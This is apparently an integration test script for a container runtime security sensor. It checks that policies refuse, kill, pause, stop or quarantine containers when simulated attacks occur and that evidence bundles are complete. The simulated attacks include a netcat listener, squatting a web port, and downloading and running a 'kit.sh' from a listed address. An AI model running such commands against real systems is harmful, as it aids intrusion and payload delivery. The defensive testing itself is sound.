#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# S12: what S2 to S10 find is acted on. Containers learn as always; then each attack meets the action that the configuration names
# for its workload, what was learned goes on, and the evidence is complete.
set -u
# shellcheck source=tests/scenarios/lib.sh
. "$(dirname "$0")/lib.sh"
docker_begin
lab_outside a
lab_engine_start a
lab_image a pg-many pg-web pg-db
d network create --subnet 172.31.0.0/16 front >/dev/null
scenario_config s
cat >>"$LAB_DIR/sensor-s/config.yaml" <<'END'
policy:
  workloads:
    pg-web/e-pause: { mode: enforce }
    pg-many/e-kill: { mode: enforce }
    pg-web/e-exec: { mode: enforce }
    pg-web/e-shut: { mode: enforce, on_failure: closed }
    pg-web/S2-web: { mode: enforce }
    pg-many/S4-web: { mode: enforce }
    pg-many/S5-web: { mode: enforce }
    pg-web/S6-web: { mode: enforce }
    pg-db/S6-db: { mode: enforce }
    pg-many/S7-app: { mode: enforce }
    pg-web/S8-web: { mode: enforce }
    pg-many/S8-boot: { mode: enforce }
evidence: { freeze: true }
actions:
  workloads:
    pg-web/e-pause: { listener.squatted: [evidence, pause] }
    pg-many/e-kill: { listener.new: [evidence, kill], process.new: alert }
    pg-web/e-exec: { process.new: [refuse, evidence] }
    pg-web/e-shut: { process.new: refuse }
    pg-many/e-killc: { process.new: kill }
    pg-web/S2-web: { config.drift: evidence }
    pg-many/S4-web: { listener.squatted: stop }
    pg-many/S5-web: { listener.protocol: reset }
    pg-many/S7-app: { syscall.new: quarantine }
    pg-web/S8-web: { intel.ip: block }
    pg-many/S8-boot: { intel.file: [refuse, quarantine] }
END
scenario_feeds s
# every packet to the listed address is counted where it would arrive
lab_in outside nft -f - <<'END'
table ip seen {
	counter listed { }
	chain input { type filter hook input priority 0; ip daddr 203.0.113.66 counter name listed; }
}
END
sensor_start s "$(lab_socket a)"
for c in S2 S4 S5 S6 S7 S8; do
	case_load "$c"
	case_prepare
done
case_id=e
web pause
client_of pausec "http://e-pause/"
run kill pg-many sh -c 'node /srv/node/app.js & while sleep 0.5; do getent hosts e-pause >/dev/null; done'
client_of killc "http://e-kill:3000/"
web exec
client_of execc "http://e-exec/"
web shut
client_of shutc "http://e-shut/"
sleep 2
if until_true 90 learned_all "$(d ps -q | wc -l)"; then
	pass "learning ends by itself, without a command"
else
	flunk "learning ends by itself, without a command" "$(still_learning)"
fi
echo "# learned after $((SECONDS - DOCKER_START)) s"

# acted CONTAINER FINDING PATTERN: the alert's action
acted() {
	# shellcheck disable=SC2053 # a pattern
	[[ $(alerts_json --all | jq -r --arg c "$1" --arg f "$2" '[.[] | select(.container == $c and .finding == $f)][-1].action // ""') == $3 ]]
}

# ---- programs (S8, S9) --------------------------------------------------------------------------------------------------
since=$(now_iso)
in_ exec id >/dev/null
in_ exec apache2ctl graceful
in_ shut sh -c 'id >/dev/null'
in_force() { sensor s status --json | jq -e --argjson n "$1" '.refuse.containers == $n' >/dev/null; }
until_true 5 in_force 3 >/dev/null
echo 'curl -s -m 1 -o /dev/null http://localhost/ && echo ran' >"$LAB_DIR/new.sh"
ok "what the models know runs while their containers are in force" in_ shut sh -c 'id >/dev/null'
ok "nothing that was learned is touched: not one finding" no_alerts "$since"
out=$(in_ exec wget -q -O /dev/null http://localhost/ 2>&1)
case $out in *[Oo]"peration not permitted"*) pass "S9: wget is refused: operation not permitted" ;; *) flunk "S9: wget is refused: operation not permitted" "$out" ;; esac
out=$(in_ exec sh -c 'nc -z localhost 80' 2>&1)
case $out in *[Oo]"peration not permitted"*) pass "S9: nc is refused from a shell that the model knows" ;; *) flunk "S9: nc is refused from a shell that the model knows" "$out" ;; esac
ok "S9: the alert says that it was refused" until_true 5 acted e-exec process.new "refuse; evidence"
ok "S9: learned programs run" in_ exec apache2ctl graceful
ok "S9: the learned listener serves" in_ execc curl -s -m 2 -o /dev/null http://e-exec/

in_ kill sh -c 'echo dropped >/root/dropped'
bg kill sh -c 'nc -l -p 31337; sleep 30'
ok "S10: the listener's process is killed, the alert says so" until_true 5 acted e-kill listener.new "evidence; kill"
nc_is_gone() { ! d top e-kill -eo args | grep -q '^nc -l'; }
ok "S10: it is gone" until_true 2 nc_is_gone
ok "S10: what was learned goes on" in_ killc curl -s -m 2 -o /dev/null http://e-kill:3000/

bg pause sh -c 'read p </var/run/apache2/apache2.pid; kill $p; for i in 1 2 3 4 5 6 7 8 9; do sleep 0.7; nc -l -p 80 && break; done'
ok "S3: the container is paused, the alert says so" until_true 5 acted e-pause listener.squatted "pause; evidence"
is_paused() { [ "$(d inspect -f '{{.State.Status}}' "$1")" = paused ]; }
ok "S3: the engine knows it as paused" is_paused e-pause
d unpause e-pause >/dev/null
bundles() { [ "$(sensor s evidence list --json | jq length)" -ge "$1" ]; }
ok "evidence: three bundles are whole" until_true 10 bundles 3
bundle_of() { alerts_json --all | jq -r --arg c "$1" --arg f "$2" '[.[] | select(.container == $c and .finding == $f)][-1].evidence'; }
for c in "e-kill listener.new" "e-pause listener.squatted"; do
	# shellcheck disable=SC2086 # two words
	id=$(bundle_of $c)
	ok "evidence of ${c% *}: exported" sensor s evidence export "$id" -o "$LAB_DIR/$id.tar.gz"
	ok "evidence of ${c% *}: every file as the manifest says" sensor s evidence verify "$LAB_DIR/$id.tar.gz"
	mkdir -p "$LAB_DIR/bundle"
	tar -C "$LAB_DIR/bundle" -xzf "$LAB_DIR/$id.tar.gz"
	ok "evidence of ${c% *}: nothing was cut" jq -e '.cut == []' "$LAB_DIR/bundle/$id/manifest.json"
	ok "evidence of ${c% *}: the program of the finding, and what /proc says of its process" \
		sh -c 'tar -tf "$1" | grep -q "^exe/[0-9]*-nc.openbsd$" && tar -tf "$1" | grep -q "^proc/[0-9]*/maps$"' sh "$LAB_DIR/bundle/$id/files.tar"
	ok "evidence of ${c% *}: ring.pcapng is read by capinfos" capinfos -c "$LAB_DIR/bundle/$id/ring.pcapng"
	ok "evidence of ${c% *}: tshark finds the learned HTTP in it" \
		sh -c 'tshark -r "$1" -Y http.request -T fields -e http.request.method -e frame.comment 2>/dev/null | grep -q "GET.*container e-"' sh "$LAB_DIR/bundle/$id/ring.pcapng"
	for f in manifest summary processes sockets container upper findings model-diff dns status; do
		[ "$f" = summary ] || ok "evidence of ${c% *}: $f.json is JSON with something in it" jq -e 'length >= 0' "$LAB_DIR/bundle/$id/$f.json"
	done
done
id=$(bundle_of e-kill listener.new)
ok "evidence: a file that was dropped is in the upper layer's list" jq -e 'any(.[]; .path == "root/dropped" and .type == "file")' "$LAB_DIR/bundle/$id/upper.json"
ok "evidence: and its content in the archive" sh -c '[ "$(tar -xOf "$1" upper/root/dropped)" = dropped ]' sh "$LAB_DIR/bundle/$id/files.tar"
echo "x" >>"$LAB_DIR/bundle/$id/dns.json"
tar -C "$LAB_DIR/bundle" -czf "$LAB_DIR/tampered.tar.gz" "$id"
tampered() { sensor s evidence verify "$LAB_DIR/tampered.tar.gz"; [ $? = 1 ]; }
ok "evidence: a changed file is noticed" tampered
# ---- when the verdict process is gone (DECISIONS 13, 15) -----------------------------------------------------------------
# runs_within MS NAME COMMAND...: it ends in time, whatever its status
runs_within() {
	local t0 t1 limit=$1
	shift
	t0=$(date +%s%N)
	in_ "$@" >/dev/null 2>&1
	t1=$(date +%s%N)
	echo "$(((t1 - t0) / 1000000)) ms"
	[ $(((t1 - t0) / 1000000)) -lt "$limit" ]
}
blind() { alerts_json --all | jq -e --argjson n "$1" '[.[] | select(.finding == "loss.blind")] | length >= $n' >/dev/null; }
sensor_program s core >"$LAB_DIR/core.pid"
kill -STOP "$(cat "$LAB_DIR/core.pid")"
out=$(in_ shut nc -z localhost 80 2>&1)
case $out in *[Oo]"peration not permitted"*) pass "core stopped: what nobody judges is refused where on_failure is closed" ;; *) flunk "core stopped: what nobody judges is refused where on_failure is closed" "$out" ;; esac
ok "core stopped: and let through where it is open" in_ exec getent hosts localhost
ok "core stopped: what was judged before runs" in_ shut id
kill -CONT "$(cat "$LAB_DIR/core.pid")"
kill -STOP "$(sensor_program s verdict)"
ok "verdict process stopped: a learned program runs within 1.5 s (docker exec's own time included)" runs_within 1500 exec id
ok "verdict process stopped: told as loss.blind" until_true 5 blind 1
until_true 10 sensor_is_ready s >/dev/null
kill -KILL "$(sensor_program s verdict)"
ok "verdict process killed: a learned program runs within 1 s" runs_within 1000 exec id
ok "verdict process killed: told as loss.blind" until_true 5 blind 2
until_true 10 sensor_is_ready s >/dev/null
out=$(in_ exec wget -q -O /dev/null http://localhost/ 2>&1)
case $out in *[Oo]"peration not permitted"*) pass "the next verdict process refuses again" ;; *) flunk "the next verdict process refuses again" "$out" ;; esac
# ---- the network (S6) -------------------------------------------------------------------------------------------------------
# from_ NAME ADDRESS:PORT: a connection from its namespace, without a process of its own; curl's exit status 7: refused
from_() {
	nsenter --net="/proc/$(d inspect -f '{{.State.Pid}}' "$(name_of "$1")")/ns/net" curl -s -m 3 -o /dev/null "http://$2/"
}
ip_of() { d inspect -f '{{(index .NetworkSettings.Networks "front").IPAddress}}' "$(name_of "$1")"; }
refused() { from_ "$@"; [ $? = 7 ]; }
run stranger pg-many sleep infinity
ok "S6: a stranger is refused" until_true 3 refused stranger "$(ip_of exec):80"
ok "S6: a learned client is served" from_ execc "$(ip_of exec):80"
ok "S8: a destination that was never learned is refused" refused exec "$(ip_of kill):3000"
ok "S6: the map says reset" sh -c "$LAB_BUILD/pierglass --run $LAB_DIR/sensor-s/run map --json | jq -es '.[0].edges | any(.client == \"pg-many/e-stranger\" and .server == \"pg-web/e-exec\" and .verdict == \"reset\")'"
serves() { sensor s map --json | jq -es --arg c "$1" --arg s "$2" --arg v "$3" '.[0].edges | any(.client == $c and .server == $s and .verdict == $v)' >/dev/null; }
attack() { # CASE: as on the scorecard
	case_load "$1"
	case_attack >/dev/null 2>&1
}
ok "what only watches keeps its programs: kill is said to be left undone" in_ killc sh -c 'wget -q -O /dev/null http://e-kill:3000/'
ok "and that is what the alert says" until_true 5 acted e-killc process.new "kill not done: * monitor mode"
attack S6
ok "S6: a container of another stack reaches neither" until_true 5 serves pg-many/S6-stranger pg-web/S6-web reset
ok "S6: and not the database" until_true 5 serves pg-many/S6-stranger pg-db/S6-db reset
ok "S6: the web server's client is served" from_ c "$(ip_of web):80"
attack S2
ok "S2: the edit is kept as evidence" until_true 5 acted S2-web config.drift evidence
listens() { nsenter --net="/proc/$(d inspect -f '{{.State.Pid}}' "$(name_of web)")/ns/net" ss -Hltn | grep -q ":$1 "; }
ok "S2: the new listener is there" until_true 5 listens 81
ok "S2: nobody reaches it" refused c "$(ip_of web):81"
ok "S2: the learned one serves" from_ c "$(ip_of web):80"
attack S4
ok "S4: the container is stopped, the alert says so" until_true 15 acted S4-web listener.squatted stop
is_stopped() { [ "$(d inspect -f '{{.State.Running}}' "$1")" = false ]; }
ok "S4: the engine knows it as stopped" is_stopped S4-web
case_load S5
protocol_changes() {
	case_attack
	acted S5-web listener.protocol "reset*"
}
ok "S5: the client is cut off, the alert says so" until_true 10 protocol_changes
attack S7
ok "S7: the application is in quarantine, the alert says so" until_true 5 acted S7-app syscall.new quarantine
cut_off() { ! from_ "$@"; }
ok "S7: its client does not reach it" cut_off c "$(ip_of app):3000"

# ---- a kit from a listed address; a listed file (S8) -------------------------------------------------------------------------------
case_load S8
packets() { lab_in outside nft list counter ip seen listed | grep -o 'packets [0-9]*' | cut -d' ' -f2; }
in_ web sh -c 'wget -q -T 2 -t 1 -O /tmp/kit.sh http://203.0.113.66:8088/kit.sh' >/dev/null 2>&1
ok "S8: the download from a listed address does not come about" in_ web sh -c '! [ -s /tmp/kit.sh ]'
ok "S8: the alert says block" until_true 5 acted S8-web intel.ip block
ok "S8: not one packet left for it" test "$(packets)" = 0
ok "S8: they are counted" sh -c "'$LAB_BUILD/pierglass' --run '$LAB_DIR/sensor-s/run' status --json | jq -e '.counters.listed_packets_dropped > 0'"
ok "S8: what is learned is reached" from_ boot 203.0.113.9:8088
in_ boot curl -s -m 5 -o /tmp/kit.sh http://203.0.113.9:8088/kit.sh
ok "S8: the listed file: it will not run, and its container is in quarantine" until_true 5 acted S8-boot intel.file "refuse; quarantine"
in_ boot chmod +x /tmp/kit.sh
out=$(in_ boot /tmp/kit.sh 2>&1)
case $out in *[Oo]"peration not permitted"*) pass "S8: the listed file, run: operation not permitted, by its digest alone" ;; *) flunk "S8: the listed file, run: operation not permitted, by its digest alone" "$out" ;; esac
in_ boot sh -c 'cp /bin/true /tmp/other'
ok "S8: what is listed nowhere runs there, though the model does not know it" in_ boot /tmp/other
ok "S8: which ends its reach" cut_off boot 203.0.113.9:8088
ok "S8: the policy says why" sh -c "'$LAB_BUILD/pierglass' --run '$LAB_DIR/sensor-s/run' policy show --json | jq -es '.[0].holds | any(.kind == \"quarantine\" and (.container | contains(\"S8-boot\")))'"
[ -z "${SC_KEEP:-}" ] || { echo "# kept: $LAB_DIR"; sleep "$SC_KEEP"; }
ok "evidence list fits its schema" sh -c "'$LAB_BUILD/pierglass' --run '$LAB_DIR/sensor-s/run' evidence list --json | python3 tests/golden/schema.py evidence"
ok "manifest fits its schema" sh -c "python3 tests/golden/schema.py evidence-manifest <'$LAB_DIR/bundle/$id/manifest.json'"
ok "status fits its schema" sh -c "'$LAB_BUILD/pierglass' --run '$LAB_DIR/sensor-s/run' status --json | python3 tests/golden/schema.py status"
ok "alerts fit their schema" sh -c "'$LAB_BUILD/pierglass' --run '$LAB_DIR/sensor-s/run' alerts --json | python3 tests/golden/schema.py alerts"
# from what the kernel saw to the end of the actions: the alert is written then
alerts_json --all | jq -r '.[] | select(.action != "none" and .count == 1) | def s: (.[0:19] + "Z" | fromdate) + ("0." + (.[20:] | rtrimstr("Z")) | tonumber); [.action, (.acted_at | s) - (.observed_at | s)] | @tsv' |
	sort -t"$(printf '\t')" -k2 -g | awk -F'\t' '{ v[NR] = $2; print "#   " $1 ": " int($2 * 1000 + 0.5) " ms" } END { if (NR) printf "# time from the kernel to the end of the actions: median %.0f ms, 95th %.0f ms, %d findings\n", v[int((NR + 1) / 2)] * 1000, v[int(NR * 0.95 + 0.5) < 1 ? 1 : int(NR * 0.95 + 0.5)] * 1000, NR }'
alerts_json --all | jq -c '.[] | [.time, .finding, .container, .process, .action, .evidence]' | sed 's/^/# /'
docker_end
